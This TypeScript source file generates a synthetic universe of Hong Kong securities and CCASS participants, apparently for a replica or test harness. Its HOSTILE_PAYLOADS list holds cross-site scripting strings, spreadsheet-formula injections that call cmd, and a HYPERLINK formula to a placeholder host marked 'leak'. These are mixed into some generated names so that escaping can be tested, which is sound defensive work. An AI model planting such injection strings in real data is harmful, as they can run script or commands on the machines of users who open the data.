// The synthetic universe: which securities exist (codes allocated like HKEX allocates them), and
// the CCASS participants (brokers, custodians, clearing agencies, consenting investors).
// Every name is made up; with `hostile` some names carry HTML/script and spreadsheet-formula
// payloads so that every consumer's escaping is exercised.
import { Rng } from "./random.ts";

export type StockKind = "equity" | "etf" | "reit" | "warrant" | "cbbc" | "debt";

/** Code ranges the replica allocates from, per kind (both ends inclusive). Documented in docs/REPLICA.md. */
export const CODE_RANGES: Record<StockKind | "gem", readonly (readonly [number, number])[]> = {
  equity: [
    [1, 1999],
    [2000, 2799],
    [3300, 3999],
    [6000, 6999],
    [9600, 9999],
  ],
  gem: [[8001, 8999]],
  etf: [
    [2800, 2849],
    [3000, 3199],
  ],
  reit: [], // the fixed list below
  warrant: [[10000, 29999]],
  cbbc: [[50000, 69999]],
  debt: [[4000, 4999]],
};

/** REIT codes (a fixed set, as on HKEX where REITs have no range of their own). */
export const REIT_CODES = ["00405", "00435", "00778", "00808", "00823", "01426", "01503", "01881", "02778", "87001"];

/** The Stock Connect clearing participants that hold southbound shares (Shanghai, Shenzhen). */
export const SOUTHBOUND_CLEARING_IDS = ["A00003", "A00004"] as const;

export const MAX_STOCKS = 6000;

export interface UniverseStock {
  code: string;
  name: string;
  nameZh: string;
  kind: StockKind;
  gem: boolean;
  /** Size rank in [0, 1): larger means more issued shares and more participants. */
  size: number;
  southbound: boolean;
}

export type ParticipantType = "A" | "B" | "C" | "I";

export interface UniverseParticipant {
  /** CCASS ID; null for consenting investor participants. */
  id: string | null;
  type: ParticipantType;
  name: string;
  /** null for investor participants (HKEX shows no address for them). */
  address: string | null;
}

export const HOSTILE_PAYLOADS = [
  "<img src=x onerror=alert(1)>",
  '</script><script>alert("ccass")</script>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '=HYPERLINK("http://example.invalid/?leak","CLICK")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "<b>BOLD</b> & <i>CO</i> &amp; &lt;LTD&gt;",
];

/** A hostile variant of `name`: the payload alone (formula prefixes must lead) or wrapped around it. */
function hostile(rng: Rng, name: string): string {
  const payload = rng.pick(HOSTILE_PAYLOADS);
  if (/^[=+\-@]/.test(payload)) return `${payload} ${name}`;
  return rng.chance(0.5) ? `${name} ${payload}` : `${payload} ${name}`;
}

const W1 = [
  "ASTER", "BAMBOO", "CEDAR", "DELTA", "EMBER", "FALCON", "GRANITE", "HARBOURVIEW", "IRIS", "JADE",
  "KESTREL", "LANTERN", "MERIDIAN", "NORTHSTAR", "OPAL", "PEARL", "QUARTZ", "RIVERSIDE", "SAPPHIRE",
  "TIDAL", "UNISON", "VERDANT", "WILLOW", "XENON", "YEWTREE", "ZENITH", "ORCHID", "COBALT", "SUMMIT",
  "LOTUS", "PHOENIX", "MAGNOLIA",
];
const W2 = [
  "ASIA", "CHINA", "HONG KONG", "KOWLOON", "GREATER BAY", "EASTERN", "SOUTHERN", "GLOBAL",
  "INTERNATIONAL", "UNITED", "PACIFIC RIM", "NEW TERRITORIES",
];
const SUFFIX = [
  "HOLDINGS", "GROUP", "DEVELOPMENT", "TECHNOLOGY", "PROPERTIES", "ENERGY", "BIOTECH", "LOGISTICS",
  "RESOURCES", "INDUSTRIES", "BANK", "INSURANCE", "MEDIA", "FOODS", "PORTS & INFRASTRUCTURE",
  "HEALTHCARE", "MOTORS", "SEMICONDUCTOR",
];
const ZH1 = ["東方", "海港", "珍珠", "金龍", "翡翠", "蓮花", "鳳凰", "峰頂", "星輝", "瑞豐", "華南", "九龍", "灣區", "環球", "聯合", "太平"];
const ZH2 = ["控股", "集團", "發展", "科技", "地產", "能源", "生物", "物流", "資源", "工業", "銀行", "保險", "傳媒", "食品", "醫療", "汽車"];
const ETF_INDEX = ["HK LARGE CAP", "CHINA TECH", "ASIA DIVIDEND", "GREATER BAY 50", "GLOBAL BOND", "GOLD", "US 500", "JAPAN EQUITY", "A-SHARE 300", "HIGH YIELD"];
const ISSUERS = ["HS", "JP", "GS", "UB", "BI", "SG", "CS", "MB", "BP", "HT"];
const STREETS = ["QUEEN'S ROAD CENTRAL", "DES VOEUX ROAD", "CONNAUGHT ROAD", "GLOUCESTER ROAD", "NATHAN ROAD", "KING'S ROAD", "HENNESSY ROAD", "CANTON ROAD"];
const BUILDINGS = ["TOWER", "CENTRE", "PLAZA", "HOUSE"];
const BROKER_KINDS = ["SECURITIES", "FINANCIAL", "CAPITAL", "BROKERAGE", "INVESTMENT SERVICES", "FUTURES & SECURITIES", "ASSET MANAGEMENT"];
const CUSTODIAN_KINDS = ["CUSTODY BANK", "TRUST (ASIA)", "BANKING CORPORATION", "NOMINEES", "CUSTODIAN SERVICES", "BANK (HONG KONG)"];
const SURNAMES = ["CHAN", "WONG", "LEE", "CHEUNG", "LAU", "NG", "LEUNG", "HO", "TANG", "YIP", "KWOK", "LAM", "TSANG", "FUNG"];
const GIVEN = ["TAI", "MAN", "SIU", "MING", "KA", "WAI", "CHI", "KEUNG", "YEE", "FONG", "HOI", "LOK", "WING", "SUM"];

function codeString(n: number): string {
  return String(n).padStart(5, "0");
}

function rangeValues(ranges: readonly (readonly [number, number])[], exclude: ReadonlySet<number>): number[] {
  const out: number[] = [];
  for (const [lo, hi] of ranges) for (let n = lo; n <= hi; n++) if (!exclude.has(n)) out.push(n);
  return out;
}

/** Draw `k` codes from the ranges, spread at random, ascending. */
function drawCodes(rng: Rng, ranges: readonly (readonly [number, number])[], k: number, exclude: ReadonlySet<number>): number[] {
  const pool = rangeValues(ranges, exclude);
  return rng.sample(pool.length, k).map((i) => pool[i] as number);
}

/** How many securities of each kind a market of `total` stocks holds (at least one of each when total >= 12). */
export function kindCounts(total: number): Record<StockKind | "gem", number> {
  if (!Number.isInteger(total) || total < 1 || total > MAX_STOCKS) {
    throw new RangeError(`stocks must be an integer from 1 to ${MAX_STOCKS}, got ${total}`);
  }
  if (total < 12) return { equity: total, gem: 0, etf: 0, reit: 0, warrant: 0, cbbc: 0, debt: 0 };
  const reit = Math.min(REIT_CODES.length, Math.max(1, Math.round(total * 0.004)));
  const etf = Math.max(1, Math.round(total * 0.05));
  const warrant = Math.max(1, Math.round(total * 0.1));
  const cbbc = Math.max(1, Math.round(total * 0.09));
  const debt = Math.max(1, Math.round(total * 0.035));
  const gem = Math.max(1, Math.round(total * 0.08));
  const equity = total - reit - etf - warrant - cbbc - debt - gem;
  return { equity, gem, etf, reit, warrant, cbbc, debt };
}

export function buildStocks(seed: number, total: number, hostileNames: boolean): UniverseStock[] {
  const rng = Rng.of(seed, "stocks");
  const counts = kindCounts(total);
  const reitNumbers = new Set(REIT_CODES.map(Number));
  const usedNames = new Set<string>();
  const uniqueName = (base: string): string => {
    let name = base;
    for (let i = 2; usedNames.has(name); i++) name = `${base} ${i}`;
    usedNames.add(name);
    return name;
  };
  const out: UniverseStock[] = [];
  const add = (code: number, kind: StockKind, gem: boolean, name: string, nameZh: string): void => {
    const size = rng.next();
    // Stock Connect: the larger main-board ordinary shares (about 18% of them).
    const southbound = kind === "equity" && !gem && size > 0.82;
    let finalName = uniqueName(name);
    let finalZh = nameZh;
    if (hostileNames && rng.chance(1 / 12)) {
      finalName = hostile(rng, finalName);
      finalZh = hostile(rng, finalZh);
    }
    out.push({ code: codeString(code), name: finalName, nameZh: finalZh, kind, gem, size, southbound });
  };
  const equityName = (): string => `${rng.pick(W1)} ${rng.pick(W2)} ${rng.pick(SUFFIX)}`;
  const zhName = (): string => `${rng.pick(ZH1)}${rng.pick(ZH2)}`;
  for (const c of drawCodes(rng, CODE_RANGES.equity, counts.equity, reitNumbers)) add(c, "equity", false, equityName(), zhName());
  for (const c of drawCodes(rng, CODE_RANGES.gem, counts.gem, reitNumbers)) add(c, "equity", true, equityName(), `${zhName()}(創業板)`);
  for (const c of drawCodes(rng, CODE_RANGES.etf, counts.etf, reitNumbers)) {
    add(c, "etf", false, `${rng.pick(W1)} ${rng.pick(ETF_INDEX)} ETF`, `${rng.pick(ZH1)}交易所買賣基金`);
  }
  for (const i of rng.sample(REIT_CODES.length, counts.reit)) {
    add(Number(REIT_CODES[i]), "reit", false, `${rng.pick(W1)} REAL ESTATE INVESTMENT TRUST`, `${rng.pick(ZH1)}房地產投資信託基金`);
  }
  const ordinaryNames = out.filter((s) => s.kind === "equity").map((s) => s.name);
  const underlying = (): string => (rng.pick(ordinaryNames.length ? ordinaryNames : W1).replace(/[^A-Z]/g, "") + "XXXX").slice(0, 4);
  const expiry = (): string => `${27 + rng.int(3)}${String(1 + rng.int(12)).padStart(2, "0")}`;
  const letter = (): string => String.fromCharCode(65 + rng.int(26));
  for (const c of drawCodes(rng, CODE_RANGES.warrant, counts.warrant, reitNumbers)) {
    add(c, "warrant", false, `${rng.pick(ISSUERS)}#${underlying()}R${rng.chance(0.6) ? "C" : "P"}${expiry()}${letter()}`, "衍生權證");
  }
  for (const c of drawCodes(rng, CODE_RANGES.cbbc, counts.cbbc, reitNumbers)) {
    add(c, "cbbc", false, `${rng.pick(ISSUERS)}#${underlying()}R${rng.chance(0.5) ? "C" : "P"}${expiry()}${letter()}${letter()}`, "牛熊證");
  }
  for (const c of drawCodes(rng, CODE_RANGES.debt, counts.debt, reitNumbers)) {
    const rate = (1 + rng.int(700) / 100).toFixed(2);
    add(c, "debt", false, `${rng.pick(W1)} ${rng.pick(W2)} ${rate}% N${expiry()}`, "債務證券");
  }
  return out.sort((a, b) => (a.code < b.code ? -1 : a.code > b.code ? 1 : 0));
}

export interface ParticipantUniverse {
  /** Every participant: the ones with IDs first (sorted by ID), then consenting investors. */
  all: UniverseParticipant[];
  /** Indices into `all` by type. */
  clearing: number[];
  brokers: number[];
  custodians: number[];
  investors: number[];
  /** Index of each ID holder. */
  byId: Map<string, number>;
}

export const PARTICIPANT_COUNTS = { A: 5, C: 180, B: 815, I: 400 } as const;

export function buildParticipants(seed: number, hostileNames: boolean): ParticipantUniverse {
  const rng = Rng.of(seed, "participants");
  const usedNames = new Set<string>();
  const address = (): string =>
    `${2 + rng.int(60)}/F ${rng.pick(BUILDINGS)} ${1 + rng.int(3)}, ${1 + rng.int(300)} ${rng.pick(STREETS)} HONG KONG`;
  const maybeHostile = (p: UniverseParticipant): UniverseParticipant => {
    if (!hostileNames || !rng.chance(1 / 20)) return p;
    const address = p.address !== null && rng.chance(0.5) ? hostile(rng, p.address) : p.address;
    return { ...p, name: hostile(rng, p.name), address };
  };
  const uniqueName = (make: () => string): string => {
    for (let tries = 0; ; tries++) {
      const base = make();
      const name = tries < 20 ? base : `${base} ${tries}`;
      if (!usedNames.has(name)) {
        usedNames.add(name);
        return name;
      }
    }
  };
  const withIds: UniverseParticipant[] = [];
  const clearingNames = [
    "HARBOUR CLEARING NOMINEES LIMITED",
    "PEARL DEPOSITORY LIMITED",
    "NORTHBRIDGE CONNECT CLEARING (SH) LIMITED",
    "NORTHBRIDGE CONNECT CLEARING (SZ) LIMITED",
    "EASTGATE CLEARING AGENCY LIMITED",
  ];
  clearingNames.forEach((name, i) => {
    usedNames.add(name);
    withIds.push(maybeHostile({ id: `A0000${i + 1}`, type: "A", name, address: address() }));
  });
  for (const n of rng.sample(990, PARTICIPANT_COUNTS.C)) {
    const name = uniqueName(() => `${rng.pick(W1)} ${rng.pick(CUSTODIAN_KINDS)} LIMITED`);
    withIds.push(maybeHostile({ id: `C${String(n + 10).padStart(5, "0")}`, type: "C", name, address: address() }));
  }
  for (const n of rng.sample(2000, PARTICIPANT_COUNTS.B)) {
    const name = uniqueName(() => `${rng.pick(W1)} ${rng.pick(W2)} ${rng.pick(BROKER_KINDS)} LIMITED`);
    withIds.push(maybeHostile({ id: `B${String(n + 1000).padStart(5, "0")}`, type: "B", name, address: address() }));
  }
  withIds.sort((a, b) => ((a.id as string) < (b.id as string) ? -1 : 1));
  const investors: UniverseParticipant[] = [];
  for (let i = 0; i < PARTICIPANT_COUNTS.I; i++) {
    // One in 25 investors shares the exact name of an earlier one (different people, same name).
    const name =
      i > 10 && rng.chance(1 / 25)
        ? (investors[rng.int(investors.length)] as UniverseParticipant).name
        : `${rng.pick(SURNAMES)} ${rng.pick(GIVEN)} ${rng.pick(GIVEN)}`;
    investors.push(maybeHostile({ id: null, type: "I", name, address: null }));
  }
  const all = [...withIds, ...investors];
  const idx = (t: ParticipantType): number[] => all.flatMap((p, i) => (p.type === t ? [i] : []));
  const byId = new Map<string, number>();
  all.forEach((p, i) => {
    if (p.id) byId.set(p.id, i);
  });
  return { all, clearing: idx("A"), brokers: idx("B"), custodians: idx("C"), investors: idx("I"), byId };
}
